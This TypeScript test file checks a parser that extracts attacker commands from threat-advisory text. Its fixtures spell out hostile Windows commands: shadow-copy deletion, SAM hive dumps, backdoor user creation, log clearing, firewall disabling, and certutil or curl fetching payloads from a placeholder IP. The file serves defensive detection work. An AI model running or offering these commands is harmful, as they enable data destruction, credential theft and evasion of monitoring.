import { findBehaviours } from '@tripline/advisory';
import fc from 'fast-check';
import { markdownAdvisory, textAdvisory } from '../support/documents.js';

async function commandsIn(text: string, markdown = false): Promise<readonly string[]> {
  const doc = await (markdown ? markdownAdvisory(text) : textAdvisory(text));
  return findBehaviours(doc)
    .filter(({ kind }) => kind === 'command')
    .map(({ value }) => value);
}

const code = (lines: string): string => `# Case\n\nThe actor ran:\n\n\`\`\`\n${lines}\n\`\`\`\n`;

describe('a session that a scrape has run into one line', () => {
  it('ends each command where the next begins', async () => {
    const text =
      'The operators then ran nltest /dclist:ferry.example net group "Ferry Admins" /domain reg query HKLM\\Software\\Ferry /v Path /s ' +
      'reg add HKLM\\System\\Ferry /v Lock /t REG_DWORD /d 1 /f vssadmin delete shadows /all /quiet These came minutes before the end.';
    expect(await commandsIn(text)).toEqual([
      'nltest /dclist:ferry.example',
      'net group "Ferry Admins" /domain',
      'reg query HKLM\\Software\\Ferry /v Path /s',
      'reg add HKLM\\System\\Ferry /v Lock /t REG_DWORD /d 1 /f',
      'vssadmin delete shadows /all /quiet',
    ]);
  });

  it('takes programs that stand alone between other commands', async () => {
    const text = 'Discovery began with: net view /all systeminfo whoami nltest /domain_trusts The rest followed.';
    expect(await commandsIn(text)).toEqual(['net view /all', 'systeminfo', 'whoami', 'nltest /domain_trusts']);
  });

  it('cuts at prompts, which belong to no command', async () => {
    const text =
      'A recording shows C:\\Users\\mara> whoami /all C:\\Users\\mara> net user ferry Pass123 /add PS C:\\Temp> certutil -urlcache -f http://192.0.2.8/a a.exe';
    expect(await commandsIn(text)).toEqual([
      'whoami /all',
      'net user ferry Pass123 /add',
      'certutil -urlcache -f http://192.0.2.8/a a.exe',
    ]);
  });

  it.each([
    ['(Heron: A1B2) > shell net group "Marsh Admins" /domain', ['net group "Marsh Admins" /domain']],
    ['(heron) > ShellCmd /shellcommand:"C:\\Windows\\heron.exe /nest:reed"', ['C:\\Windows\\heron.exe /nest:reed']],
    ['(Heron: A1B2) > set Port 8080', []],
    ['PS C:\\Users\\egret>', []],
  ])('takes of a console with commands of its own what it hands to the shell: %s', async (line, commands) => {
    expect(await commandsIn(code(line), true)).toEqual(commands);
  });

  it('keeps a program together with the one it starts', async () => {
    expect(await commandsIn('They ran cmd.exe /c reg save HKLM\\SAM C:\\Temp\\f.hiv and left.')).toEqual([
      'cmd.exe /c reg save HKLM\\SAM C:\\Temp\\f.hiv',
    ]);
    expect(await commandsIn('They used schtasks /create /tn Ferry /tr powershell.exe /sc daily /f on it.')).toEqual([
      'schtasks /create /tn Ferry /tr powershell.exe /sc daily /f',
    ]);
  });

  it('ends before a new sentence that follows an option', async () => {
    expect(await commandsIn('It ran wevtutil.exe cl Security /q Moss Ferry then left the host.')).toEqual([
      'wevtutil.exe cl Security /q',
    ]);
  });
});

describe('quotation marks', () => {
  it.each([
    ['It calls “wmic shadowcopy delete” at the end.', 'wmic shadowcopy delete'],
    ['It calls ”wmic shadowcopy delete” at the end.', 'wmic shadowcopy delete'],
    ['It calls “wmic shadowcopy delete" at the end.', 'wmic shadowcopy delete'],
  ])('may be straight, curly or mixed: %s', async (text, command) => {
    expect(await commandsIn(text)).toEqual([command]);
  });

  it('that nothing opened are no part of a command', async () => {
    const text = 'A script holds reg add "HKLM\\Software\\Ferry" /v "Off" /d "1" /f" among others.';
    expect(await commandsIn(text)).toEqual(['reg add "HKLM\\Software\\Ferry" /v "Off" /d "1" /f']);
  });

  it('of a pattern rule’s strings hold nothing that was typed', async () => {
    expect(await commandsIn('strings: $s1 = "cmd.exe /c timeout 9 && " fullword wide $s2 = "ferry" ascii')).toEqual([]);
  });
});

describe('code of other languages that starts a program', () => {
  it.each([
    ['C#', 'Process.Start("cmd.exe", "/c whoami /all");', 'cmd.exe /c whoami /all'],
    ['Python', 'subprocess.run(["reg", "add", "HKCU\\\\Ferry", "/f"])', 'reg add HKCU\\\\Ferry /f'],
    ['Python', "os.system('curl -o /tmp/f http://192.0.2.8/f')", 'curl -o /tmp/f http://192.0.2.8/f'],
    ['Rust', 'Command::new("sh").arg("-c").arg("crontab -l").spawn()', 'sh -c crontab -l'],
    ['VBA', 'Shell "certutil -decode f.txt f.exe", vbHide', 'certutil -decode f.txt f.exe'],
    ['T-SQL', "EXEC master..xp_cmdshell 'net user ferry /add'", 'net user ferry /add'],
  ])('%s: %s', async (_language, line, command) => {
    expect(await commandsIn(code(line), true)).toContain(command);
  });
});

describe('running text', () => {
  it.each([
    'The operators met at 07:27:24 and worked at C:\\Ferry\\Files later.',
    'Python 3.10 was found beside it, and PowerShell [T1059] too.',
    'It injects into systeminfo.exe print.exe net1.exe takeown.exe systray.exe at random.',
    'C:\\Ferry\\java.exe spawning cmd.exe and/or bitsadmin.exe',
  ])('that names programs holds no command: %s', async (text) => {
    expect(await commandsIn(text)).toEqual([]);
  });
});

describe('whatever commands a text runs together', () => {
  const commands = [
    'net user ferry Secret1 /add',
    'reg save HKLM\\SAM C:\\Temp\\s.hiv',
    'vssadmin delete shadows /all /quiet',
    'nltest /domain_trusts /all_trusts',
    'schtasks /create /tn Ferry /sc daily /f',
    'certutil -urlcache -f http://192.0.2.8/a a.txt',
    'wevtutil cl Security',
    'netsh advfirewall set allprofiles state off',
  ];

  it('each is found as it stands', async () => {
    await fc.assert(
      fc.asyncProperty(fc.array(fc.constantFrom(...commands), { minLength: 1, maxLength: 12 }), async (list) => {
        expect(await commandsIn(`The actor executed the following commands: ${list.join(' ')}`)).toEqual(list);
      }),
      { numRuns: 60 },
    );
  });
});
